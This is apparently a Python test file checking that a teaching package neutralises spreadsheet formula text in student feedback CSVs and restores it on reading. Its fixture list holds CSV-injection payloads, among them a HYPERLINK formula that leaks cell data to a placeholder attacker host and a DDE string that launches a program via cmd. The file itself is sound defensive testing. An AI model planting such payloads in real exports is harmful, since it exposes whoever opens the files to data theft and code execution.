"""Formula text from students stays text in every CSV an instructor opens (OWASP's rule)."""

from __future__ import annotations

import csv

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from argnb import csvsafe
from argnb.exercises import classdata

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1", "\r=1", "'=already quoted", "''@twice"]  # fmt: skip


@given(st.text())
def test_neutralise_then_restore_gives_the_text_back(text):
    safe = csvsafe.neutralise(text)
    assert csvsafe.restore(safe) == text
    assert not safe.startswith(csvsafe.TRIGGERS)


def test_formulas_get_a_leading_quote_and_numbers_stay_numbers():
    for text in FORMULAS:
        assert csvsafe.neutralise(text).startswith("'")
    assert csvsafe.neutralise(-3) == -3 and csvsafe.neutralise("plain") == "plain"


def test_feedback_form_answers_are_neutralised_on_disk_and_read_back(tmp_path):
    answers = dict(zip(classdata.OPEN, FORMULAS, strict=False))
    row = classdata.feedback_row("=cmd()", "@s1", {"easy_to_use": 4}, answers)
    path = classdata.append_feedback(tmp_path / "forms" / "a.csv", row)
    with path.open(newline="", encoding="utf-8") as f:
        (raw,) = list(csv.DictReader(f))
    for value in raw.values():
        assert not value.startswith(csvsafe.TRIGGERS), value
    back = classdata.read_feedback(tmp_path / "forms").iloc[0]
    assert back["student"] == "=cmd()" and back["session"] == "@s1"
    for key, text in answers.items():
        assert back[key] == text.strip()
    assert back["easy_to_use"] == 4


def test_roundtable_form_is_neutralised_and_read_back(tmp_path):
    from argnb.roundtable import feedback as rt

    answers = {k: "=1+1" for k, _ in rt.OPEN}
    row = rt.feedback_row("@ana", "-s", {"easy_to_use": 5}, answers)
    path = rt.save_feedback(tmp_path / "rt.csv", row)
    text = path.read_text(encoding="utf-8")
    assert "'=1+1" in text and "'@ana" in text and "\n=" not in text and ",=" not in text
    back = rt.read_feedback(path).iloc[0]
    assert back["student"] == "@ana" and back["session"] == "-s"
    assert all(back[k] == "=1+1" for k, _ in rt.OPEN)


def test_safe_frame_leaves_numbers_and_neutralises_text():
    df = pd.DataFrame({"student": ["=x", "ana"], "points": [-1.0, 2.0]})
    safe = csvsafe.safe_frame(df)
    assert list(safe["student"]) == ["'=x", "ana"] and list(safe["points"]) == [-1.0, 2.0]
    assert list(csvsafe.restore_frame(safe)["student"]) == ["=x", "ana"]
